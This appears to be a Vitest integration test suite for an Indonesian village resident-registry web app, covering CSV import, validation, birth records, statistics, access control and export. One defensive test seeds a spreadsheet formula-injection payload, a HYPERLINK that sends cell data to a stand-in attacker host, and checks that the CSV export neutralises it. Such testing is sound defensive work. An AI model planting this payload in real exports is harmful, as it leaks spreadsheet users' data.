import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fixedClock, withActor } from '../../platform/context.ts';
import { buildTestApp, loginAsNewStaff, makeStaff, type TestApp, type Visitor } from '../../testing.ts';
import { summaryLine } from './importer.ts';
import { makeNik } from './nik.ts';
import { importResidents } from './service.ts';
import { generatedCsv, KIBIN, KRAMATWATU, makeResident, tempDir } from './test-builders.ts';

let test: TestApp;

beforeEach(async () => {
  test = await buildTestApp({ clock: fixedClock('2026-11-23T02:00:00Z') });
});
afterEach(async () => {
  await test.close();
});

async function operator(): Promise<Visitor> {
  return loginAsNewStaff(test, { role: 'operator_desa', scope: KRAMATWATU });
}

/** Submits the import form of Kramatwatu as a browser does: the mode and one file (sent as text/csv). */
function postImport(visitor: Visitor, filename: string, bytes: Buffer) {
  return visitor.submitMultipart(`/kelola/penduduk/impor?desa=${KRAMATWATU}`, { mode: 'valid_rows' }, [
    { name: 'file', filename, type: 'text/csv', bytes },
  ]);
}

async function waitForImport(visitor: Visitor, url: string): Promise<string> {
  for (let i = 0; i < 100; i++) {
    const page = await visitor.get(url);
    const line = /class="summary-line">([^<]+)</.exec(page.body);
    if (line) return line[1]!;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('import did not finish');
}

describe('operator pages', () => {
  it('uploads a file, follows the progress page to the summary and downloads the rejected rows', async () => {
    const visitor = await operator();
    const { file } = generatedCsv([KRAMATWATU], 40, 31);
    fs.appendFileSync(file, 'KP. X,KRAJAN,1,1,,3604051201150001,3604051201900001,L,SERANG,12-01-1990\n');
    const posted = await postImport(visitor, 'penduduk.csv', fs.readFileSync(file));
    expect(posted.statusCode).toBe(303);
    const status = posted.headers.location as string;
    expect(await waitForImport(visitor, status)).toBe(
      '40 penduduk baru, 0 diperbarui, 0 tidak berubah, 1 ditolak',
    );
    const errors = await visitor.get(`${status}/galat.csv`);
    expect(errors.headers['content-type']).toContain('text/csv');
    expect(errors.body).toContain('42,nama,Nama wajib diisi.');
    const list = await visitor.get(`/kelola/penduduk?desa=${KRAMATWATU}`);
    expect(list.body).toContain('40 penduduk');
  });

  it('refuses a file that is neither CSV nor XLSX with a message beside the file field', async () => {
    const visitor = await operator();
    const posted = await postImport(visitor, 'surat.pdf', Buffer.from('%PDF-1.4'));
    expect(posted.statusCode).toBe(422);
    expect(posted.body).toContain('Berkas harus CSV atau XLSX.');
  });

  it('shows the record form again with each problem beside its field and keeps what was typed', async () => {
    const visitor = await operator();
    const response = await visitor.post(
      `/kelola/penduduk/baru?desa=${KRAMATWATU}`,
      {
        peristiwa: 'pendataan',
        nama: 'Ujang',
        nik: '3604051201900001',
        no_kk: '12',
        sex: '2',
        tanggallahir: '1990-01-12',
        dusun: 'KRAJAN',
        rw: '1',
        rt: '1',
      },
      { csrfFrom: `/kelola/penduduk/baru?desa=${KRAMATWATU}` },
    );
    expect(response.statusCode).toBe(422);
    expect(response.body).toContain('class="error-summary"');
    expect(response.body).toContain('No. KK harus 16 angka.');
    expect(response.body).toContain('untuk perempuan, tanggal lahir di dalam NIK ditambah 40');
    expect(response.body).toContain('value="Ujang"');
  });

  it('records a birth from the family page and the statistics CSV counts the baby', async () => {
    const visitor = await operator();
    await makeResident(
      withActor(test.ctx, await makeStaff(test.ctx, { role: 'operator_desa', scope: KRAMATWATU })),
      KRAMATWATU,
    );
    const family = await visitor.get('/kelola/keluarga/3604051201150001');
    expect(family.body).toContain('BUDI SANTOSO');
    const form = await visitor.get(
      `/kelola/penduduk/baru?desa=${KRAMATWATU}&peristiwa=lahir&kk=3604051201150001`,
    );
    expect(form.body).toContain('value="BUDI SANTOSO"');
    const saved = await visitor.post(
      `/kelola/penduduk/baru?desa=${KRAMATWATU}`,
      {
        peristiwa: 'lahir',
        nama: 'Rafa Santoso',
        nik: makeNik('360405', '2026-11-20', 1, 3),
        no_kk: '3604051201150001',
        kk_level: '4',
        sex: '1',
        tanggallahir: '2026-11-20',
        tempatlahir: 'Serang',
        dusun: 'KRAJAN',
        rw: '001',
        rt: '002',
        nama_ayah: 'BUDI SANTOSO',
      },
      { csrfFrom: `/kelola/penduduk/baru?desa=${KRAMATWATU}&peristiwa=lahir&kk=3604051201150001` },
    );
    expect(saved.statusCode).toBe(303);
    const detail = await visitor.get(saved.headers.location as string);
    expect(detail.body).toContain('RAFA SANTOSO');
    const csv = await visitor.get(`/kelola/penduduk/statistik.csv?wilayah=${KRAMATWATU}`);
    expect(csv.body).toContain('umur,0–4,1,0,1');
    expect(csv.body).toContain('ringkasan,penduduk,2,0,2');
    const print = await visitor.get('/kelola/keluarga/3604051201150001/cetak');
    expect(print.body).toContain('Ringkasan Kartu Keluarga');
    expect(print.body).toContain('RAFA SANTOSO');
  });

  it('renders the statistics page with an SVG pyramid for the camat and refuses another village operator', async () => {
    await makeResident(
      withActor(test.ctx, await makeStaff(test.ctx, { role: 'operator_desa', scope: KRAMATWATU })),
      KRAMATWATU,
    );
    const camat = await loginAsNewStaff(test, { role: 'camat', scope: '36.04.05' });
    const page = await camat.get('/kelola/penduduk/statistik');
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain('<svg');
    expect(page.body).toContain('Piramida penduduk');
    const kibin = await loginAsNewStaff(test, { role: 'operator_desa', scope: KIBIN });
    expect((await kibin.get(`/kelola/penduduk?desa=${KRAMATWATU}`)).statusCode).toBe(403);
    expect((await kibin.get('/kelola/keluarga/3604051201150001')).statusCode).toBe(403);
  });

  it('exports the village as CSV in the import columns', async () => {
    const visitor = await operator();
    await makeResident(
      withActor(test.ctx, await makeStaff(test.ctx, { role: 'operator_desa', scope: KRAMATWATU })),
      KRAMATWATU,
    );
    const csv = await visitor.get(`/kelola/penduduk/ekspor.csv?desa=${KRAMATWATU}`);
    const [header, row] = csv.body.split('\n');
    expect(header).toBe(
      'alamat,dusun,rw,rt,nama,no_kk,nik,sex,tempatlahir,tanggallahir,agama_id,pendidikan_kk_id,pendidikan_sedang_id,pekerjaan_id,status_kawin,kk_level,warganegara_id,nama_ayah,nama_ibu,golongan_darah_id,status_dasar,kode_desa',
    );
    expect(row).toContain('BUDI SANTOSO,3604051201150001,3604051204900001,1,SERANG,12-04-1990');
    const xlsx = await visitor.get(`/kelola/penduduk/ekspor.xlsx?desa=${KRAMATWATU}`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });

  it('neutralises cells a spreadsheet would run as formulas in the CSV export, and re-imports them unchanged', async () => {
    const visitor = await operator();
    const staff = withActor(
      test.ctx,
      await makeStaff(test.ctx, { role: 'operator_desa', scope: KRAMATWATU }),
    );
    await makeResident(staff, KRAMATWATU, {
      alamat: '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
      tempatlahir: '+SERANG',
      nama_ayah: '@SUM(1+1)',
      nama_ibu: '-2+3',
    });
    const csv = await visitor.get(`/kelola/penduduk/ekspor.csv?desa=${KRAMATWATU}`);
    expect(csv.statusCode).toBe(200);
    const row = csv.body.split('\n')[1]!;
    expect(row.startsWith(`"'=HYPERLINK(""http://jahat.example/?d=""&A1,""klik"")",`)).toBe(true);
    expect(row).toContain(",'+SERANG,");
    expect(row).toContain(",'@SUM(1+1),'-2+3,");
    // no cell of the export may start a formula
    for (const cell of row.split(',')) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);

    const file = path.join(tempDir(), 'ekspor.csv');
    fs.writeFileSync(file, csv.body);
    const again = await importResidents(staff, {
      path: file,
      fileName: 'ekspor.csv',
      regionCode: KRAMATWATU,
      mode: 'valid_rows',
      errorFile: null,
    });
    expect(summaryLine(again)).toBe('imported: 0 new, 0 updated, 1 unchanged, 0 rejected');
  });
});
